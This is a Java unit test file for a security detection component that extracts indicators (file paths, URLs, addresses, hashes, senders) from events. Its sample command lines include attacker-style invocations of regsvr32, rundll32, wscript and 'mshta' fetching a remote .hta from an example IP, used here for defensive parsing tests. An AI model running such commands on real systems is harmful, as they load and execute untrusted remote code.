package io.tadoru.detection;

import static org.assertj.core.api.Assertions.assertThat;

import io.tadoru.event.Event;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ArtifactsTest {
    private static List<String> of(Object... namesAndValues) {
        return Artifacts.of(Written.event(namesAndValues)).stream()
                .map(a -> a.type() + " " + a.value() + (a.malicious() ? " !" : ""))
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "regsvr32.exe /s C:\\Users\\taro\\enu.ocx                   | FILE_PATH c:\\users\\taro\\enu.ocx, FILE_NAME enu.ocx",
                "regsvr32.exe /s \"C:\\Users\\taro\\a b\\x.DLL\"            | FILE_PATH c:\\users\\taro\\a b\\x.dll, FILE_NAME x.dll",
                "regsvr32 /s C:\\Users\\taro ito\\My Docs\\x.dll            | FILE_PATH c:\\users\\taro ito\\my docs\\x.dll, FILE_NAME x.dll",
                "C:\\Windows\\System32\\regsvr32.exe /s ..\\enu.ocx         | FILE_NAME enu.ocx",
                "rundll32.exe C:\\ProgramData\\a.dll,DllRegisterServer      | FILE_PATH c:\\programdata\\a.dll, FILE_NAME a.dll",
                "rundll32 shell32.dll,Control_RunDLL                        | ~~",
                "cmd /c \"start wscript C:\\t\\a.js\"                       | FILE_PATH c:\\t\\a.js, FILE_NAME a.js",
                "\"C:\\Program Files\\O\\EXCEL.EXE\" \"C:\\m\\i.xlsm\"      | FILE_PATH c:\\m\\i.xlsm, FILE_NAME i.xlsm",
                "mshta http://203.0.113.80/e.hta                            | URL http://203.0.113.80/e.hta, ADDRESS 203.0.113.80, FILE_NAME e.hta",
                "powershell.exe -File:C:\\it\\a.ps1 -x                      | FILE_PATH c:\\it\\a.ps1, FILE_NAME a.ps1",
                "wscript \\\\fs1\\share\\a.vbs                              | FILE_PATH \\\\fs1\\share\\a.vbs, FILE_NAME a.vbs",
                "wscript %TEMP%\\a.vbs                                      | FILE_NAME a.vbs",
                "whoami /all                                                | ~~",
                "regsvr32 \"C:\\Users\\taro\\x.dll                          | FILE_PATH c:\\users\\taro\\x.dll, FILE_NAME x.dll"
            })
    void readsCommandLines(String line, String expected) {
        assertThat(String.join(", ", of("process.command_line", line))).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({
        "HTTP://Example.COM:80/a/B?x#f, http://example.com/a/B?x",
        "https://user@example.com, https://example.com/",
        "https://example.com:8443/, https://example.com:8443/",
        "http://[2001:DB8::1]/x, http://[2001:db8::1]/x"
    })
    void urlsHaveOneForm(String written, String normal) {
        assertThat(Urls.normal(written)).contains(normal);
    }

    @Test
    void aTunnelHasNoUrlButAPlace() {
        assertThat(of("url.full", "203.0.113.99:443", "url.domain", "203.0.113.99"))
                .containsExactly("ADDRESS 203.0.113.99");
        assertThat(of("url.full", "Shop.example.net:443", "url.domain", "Shop.example.net"))
                .containsExactly("DOMAIN shop.example.net");
    }

    @ParameterizedTest
    @CsvSource({
        "10.1.2.3",
        "172.20.0.1",
        "192.168.1.1",
        "127.0.0.1",
        "169.254.1.1",
        "fe80::1",
        "fd00::1",
        "::1",
        "0.0.0.0",
        "100.64.0.1",
        "224.0.0.1",
        "999.1.1.1",
        "a"
    })
    void addressesInsideAreNoTie(String address) {
        assertThat(of("destination.ip", address)).isEmpty();
    }

    @Test
    void onlyTheMailLayersPeerIsOutside() {
        assertThat(of("source.ip", "203.0.113.25", "tadoru.layer", "mail")).containsExactly("ADDRESS 203.0.113.25");
        assertThat(of("source.ip", "203.0.113.25", "tadoru.layer", "firewall")).isEmpty();
    }

    @Test
    void systemBinariesHashesAreNoTie() {
        String hash = "A".repeat(64);
        assertThat(of("process.hash.sha256", hash, "process.executable", "C:\\Windows\\System32\\regsvr32.exe"))
                .isEmpty();
        assertThat(of("process.hash.sha256", hash, "process.executable", "C:\\Program Files (x86)\\a.exe"))
                .isEmpty();
        assertThat(of("process.hash.sha256", hash)).isEmpty();
        assertThat(of("process.hash.sha256", hash, "process.executable", "C:\\Users\\t\\a.exe"))
                .contains("HASH sha256:" + "a".repeat(64), "FILE_PATH c:\\users\\t\\a.exe");
    }

    @Test
    void whatTheLayerJudgedIsMalicious() {
        String path = "C:\\Users\\taro\\AppData\\Local\\Kvmrs\\abgzq.dll";
        assertThat(of(
                        "tadoru.layer",
                        "epp",
                        "tadoru.verdict",
                        "detected",
                        "file.path",
                        path,
                        "tadoru.threat.name",
                        "T"))
                .containsExactly(
                        "FILE_PATH " + path.toLowerCase(Locale.ROOT) + " !", "FILE_NAME abgzq.dll !", "THREAT T !");
        assertThat(of("tadoru.layer", "epp", "tadoru.verdict", "passed", "file.path", path))
                .noneMatch(a -> a.endsWith("!"));
        assertThat(of("tadoru.layer", "firewall", "tadoru.verdict", "blocked", "file.name", "a.exe"))
                .containsExactly("FILE_NAME a.exe");
    }

    @Test
    void mailGivesMessageSenderAndAttachments() {
        assertThat(of(
                        "email.message_id",
                        "<m-77@x.example>",
                        "email.local_id",
                        "4K5",
                        "email.from.address",
                        "A@x.example",
                        "email.attachments.file.name",
                        List.of("Invoice.XLSM", "b.txt")))
                .containsExactly(
                        "MESSAGE m-77@x.example",
                        "MESSAGE 4K5",
                        "FILE_NAME invoice.xlsm",
                        "FILE_NAME b.txt",
                        "SENDER a@x.example");
    }

    @Test
    void processInstancesAreTheSameInAnySpelling() {
        assertThat(of("process.entity_id", "{0A1B}", "process.parent.entity_id", "0a1c"))
                .containsExactly("PROCESS 0a1b", "PROCESS 0a1c");
    }

    @Test
    void theStrongestTiesAreKeptOfTooMany() {
        List<String> names =
                IntStream.range(0, 500).mapToObj(i -> "f" + i + ".zip").toList();
        Event event = Written.event("email.attachments.file.name", names, "email.message_id", "m@x");
        assertThat(Findings.of(event, Indicators.none()).artifacts())
                .hasSize(Artifacts.MOST)
                .first()
                .isEqualTo(new Artifact(Artifact.Type.MESSAGE, "m@x", false));
    }
}
